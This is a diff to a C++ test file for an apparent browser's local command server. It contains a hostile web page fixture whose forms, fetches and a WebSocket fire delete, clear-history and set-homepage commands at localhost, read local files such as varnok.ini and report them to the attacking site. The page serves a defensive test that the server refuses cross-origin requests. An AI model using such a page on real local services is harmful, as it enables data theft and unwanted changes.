@@ -13,34 +13,41 @@ namespace {
 using namespace std::chrono_literals;
 
 // The hostile page: images, fetch (plain and no-cors), forms sent by script (GET and
-// POST, into a frame and as a navigation) and a redirect through its own site, aimed at
-// every command on every name of our server, with and without a guessed key; then
-// tries to read our pages and reports what it got to its own site.
+// POST, into a frame), a redirect through its own site, a WebSocket and a navigation,
+// aimed at every command on every name of our server, with and without a guessed key;
+// it also tries to read our pages, and reports what it got to its own site.
+const char kHostilePage[] = R"(<html><body><iframe name=sink></iframe>
+<form id=get target=sink method=get action='http://localhost:PORT/sethome_browser.ido'>
+<input name=homeurl value='http://evil.example/'><input name=key value='GUESS'></form>
+<form id=post target=sink method=post action='http://127.0.0.1:PORT/delscjitem_browser.ido?id=0'>
+<input name=key value='GUESS'></form>
+<script>
+function report(x) { new Image().src = '/report?' + encodeURIComponent(x); }
+var bases = ['http://localhost:PORT/', 'http://127.0.0.1:PORT/', 'http://[::1]:PORT/'];
+var commands = ['delscjitem_browser.ido?id=0', 'delhis_browser.ido?id=0', 'clearhis_browser.ido/?x=1',
+                'sethome_browser.ido?homeurl=javascript:alert(1)&Submit=s'];
+bases.forEach(function(b) { commands.forEach(function(c) { ['', '&key=GUESS'].forEach(function(k) {
+  new Image().src = b + c + k;
+  fetch(b + c + k, {mode: 'no-cors'}).then(function() { report('REACHED ' + c); }, function() {});
+}); }); });
+bases.forEach(function(b) { ['scj.htm', 'menu.htm', 'varnok.ini', 'sysmsg.htm'].forEach(function(f) {
+  fetch(b + f).then(function(r) { return r.text(); }).then(function(t) { report('READ ' + f + ' ' + t); },
+                                                         function() {});
+}); });
+new Image().src = '/redirect';
+try { new WebSocket('ws://localhost:PORT/clearhis_browser.ido/?key=GUESS'); } catch (e) {}
+document.getElementById('get').submit();
+document.getElementById('post').submit();
+setTimeout(function() { report('done'); location.href = bases[0] + commands[2]; }, 4000);
+</script></body></html>)";
+
 std::string HostilePage(int port, const std::string& guess) {
-  const std::string p = std::to_string(port);
-  return "<html><body><iframe name=sink></iframe>"
-         "<form id=get target=sink method=get action='http://localhost:" + p + "/sethome_browser.ido'>"
-         "<input name=homeurl value='http://evil.example/'><input name=key value='" + guess + "'></form>"
-         "<form id=post target=sink method=post action='http://127.0.0.1:" + p + "/delscjitem_browser.ido?id=0'>"
-         "<input name=key value='" + guess + "'></form>"
-         "<script>\n"
-         "function report(x) { new Image().src = '/report?' + encodeURIComponent(x); }\n"
-         "var bases = ['http://localhost:" + p + "/', 'http://127.0.0.1:" + p + "/', 'http://[::1]:" + p + "/'];\n"
-         "var commands = ['delscjitem_browser.ido?id=0', 'delhis_browser.ido?id=0', 'clearhis_browser.ido/?x=1',\n"
-         "                'sethome_browser.ido?homeurl=javascript:alert(1)&Submit=s'];\n"
-         "bases.forEach(function(b) { commands.forEach(function(c) { ['', '&key=" + guess + "'].forEach(function(k) {\n"
-         "  new Image().src = b + c + k;\n"
-         "  fetch(b + c + k, {mode: 'no-cors'}).then(function() { report('REACHED ' + c); }, function() {});\n"
-         "}); }); });\n"
-         "bases.forEach(function(b) { ['scj.htm', 'menu.htm', 'varnok.ini', 'sysmsg.htm'].forEach(function(f) {\n"
-         "  fetch(b + f).then(function(r) { return r.text(); }).then(function(t) { report('READ ' + f + ' ' + t); },\n"
-         "                                                         function() {});\n"
-         "}); });\n"
-         "new Image().src = '/redirect';\n"
-         "document.getElementById('get').submit();\n"
-         "document.getElementById('post').submit();\n"
-         "setTimeout(function() { report('done'); location.href = bases[0] + commands[2]; }, 4000);\n"
-         "</script></body></html>";
+  std::string page = kHostilePage;
+  for (const auto& [name, value] :
+       {std::pair<std::string, std::string>{"PORT", std::to_string(port)}, {"GUESS", guess}})
+    for (size_t at = page.find(name); at != std::string::npos; at = page.find(name, at + value.size()))
+      page.replace(at, name.size(), value);
+  return page;
 }
 
 TEST(CrossOriginTest, AHostilePageChangesNothingAndReadsNothing) {
@@ -56,8 +63,9 @@ TEST(CrossOriginTest, AHostilePageChangesNothingAndReadsNothing) {
   program = std::make_unique<Program>(site.Url("/evil"));
   port = program->port;
   program->environment["VARNOK_VERBOSE"] = "1";  // the server logs every request it parses
-  WriteFileOrDie(program->dir / "varnok.ini", "[homeurl]\r\nurl1=" + site.Url("/evil") +
-                                                  "\r\n[history]\r\nurl1=http://h/\r\n[soucangjia]\r\nurl1=http://f/\r\n");
+  WriteFileOrDie(program->dir / "varnok.ini",
+                 "[homeurl]\r\nurl1=" + site.Url("/evil") +
+                     "\r\n[history]\r\nurl1=http://h/\r\n[soucangjia]\r\nurl1=http://f/\r\n");
   auto child = program->Start();
   ASSERT_TRUE(WaitUntil([&] { return site.Requested("/report?done"); }, 90s)) << child->Output();
   child->Signal(SIGTERM);
@@ -93,11 +101,11 @@ TEST(LocalServerGuardTest, RefusesOnlyOtherOriginsRequestsToOurServer) {
   };
   // Web sites: any name and letter case of our server, any kind of request.
   for (const char* target : {"http://localhost:10101/scj.htm", "http://LOCALHOST:10101/", "http://127.0.0.1:10101/x",
-                             "http://[::1]:10101/clearhis_browser.ido/"})
+                             "http://[::1]:10101/clearhis_browser.ido/", "ws://localhost:10101/delhis_browser.ido"})
     EXPECT_FALSE(allows(QUrl(target), "https://evil.example", "https://evil.example/page")) << target;
-  EXPECT_FALSE(allows(command, "null", "https://evil.example/"));            // an opaque (sandboxed) origin
+  EXPECT_FALSE(allows(command, "null", "https://evil.example/"));                    // an opaque (sandboxed) origin
   EXPECT_FALSE(allows(command, "http://localhost:8080", "http://localhost:8080/"));  // another port of ours
-  EXPECT_FALSE(allows(command, "file:///", "file:///home/me/Downloads/page.htm"));  // a file elsewhere
+  EXPECT_FALSE(allows(command, "file:///", "file:///home/me/Downloads/page.htm"));   // a file elsewhere
 
   // Our own pages, the engine's own loads and what the person types or picks.
   EXPECT_TRUE(allows(command, "http://localhost:10101", "http://localhost:10101/scj.htm"));
